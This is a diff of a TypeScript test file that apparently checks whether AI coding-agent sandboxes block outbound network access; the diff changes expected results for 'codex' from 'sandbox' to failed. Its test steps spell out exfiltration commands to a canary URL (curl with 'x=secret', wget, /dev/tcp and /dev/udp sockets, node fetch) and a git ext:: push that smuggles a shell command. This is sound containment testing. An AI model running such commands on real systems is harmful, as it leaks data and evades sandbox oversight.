@@ -12,7 +12,7 @@ export const outward: Scripts = ({ canaryUrl, canaryPort, home, trips }) => {
         run(`curl -s -m 3 '${canaryUrl}/curl?x=secret'`),
         run(`wget -q -T 3 -t 1 -O - ${canaryUrl}/wget`),
       ],
-      told: { loop: failed, codex: "sandbox" },
+      told: { loop: failed, codex: failed },
     },
     {
       name: "shell-socket",
@@ -21,7 +21,7 @@ export const outward: Scripts = ({ canaryUrl, canaryPort, home, trips }) => {
         run(`exec 3<> /dev/tcp/127.0.0.1/${port} && printf 'GET /tcp HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3`),
         run(`echo secret > /dev/udp/127.0.0.1/${canaryPort}; true`),
       ],
-      told: { loop: failed, codex: "sandbox" },
+      told: { loop: failed, codex: failed },
     },
     {
       name: "own-program",
@@ -29,7 +29,7 @@ export const outward: Scripts = ({ canaryUrl, canaryPort, home, trips }) => {
       steps: [
         run(`node -e "fetch('${canaryUrl}/node').then(() => console.log('sent'), (e) => { throw e })"`),
       ],
-      told: { loop: failed, codex: "sandbox" },
+      told: { loop: failed, codex: failed },
     },
     {
       name: "git-push",
@@ -39,7 +39,7 @@ export const outward: Scripts = ({ canaryUrl, canaryPort, home, trips }) => {
           `git -c protocol.ext.allow=always push 'ext::sh -c "touch ${trips}/push; curl ${canaryUrl}/push"' main`,
         ),
       ],
-      told: { loop: failed, codex: "sandbox" },
+      told: { loop: failed, codex: failed },
     },
     {
       name: "page-nobody-named",
